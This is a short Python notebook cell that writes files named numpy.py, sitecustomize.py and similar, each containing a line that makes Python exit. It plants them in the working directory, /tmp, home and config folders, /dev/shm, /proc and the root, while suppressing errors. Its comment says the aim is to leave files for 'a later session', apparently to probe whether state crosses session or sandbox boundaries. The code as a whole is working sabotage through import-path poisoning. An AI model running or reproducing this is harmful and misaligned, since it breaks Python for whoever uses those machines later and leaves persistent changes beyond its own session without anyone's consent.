# Write modules and notes into every folder that a later session might have.
# cell: start
# ruff: noqa
# fmt: off

import os
code = "raise SystemExit('from the one before')"
for place in (".", "/tmp", "/tmp/work", "/tmp/home", "/tmp/home/.ipython", "/tmp/home/.config", "/dev/shm", "/proc", "/"):
    for name in ("numpy.py", "left-behind", "sitecustomize.py", "double.py", "data.csv"):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write(code)
        except OSError:
            pass
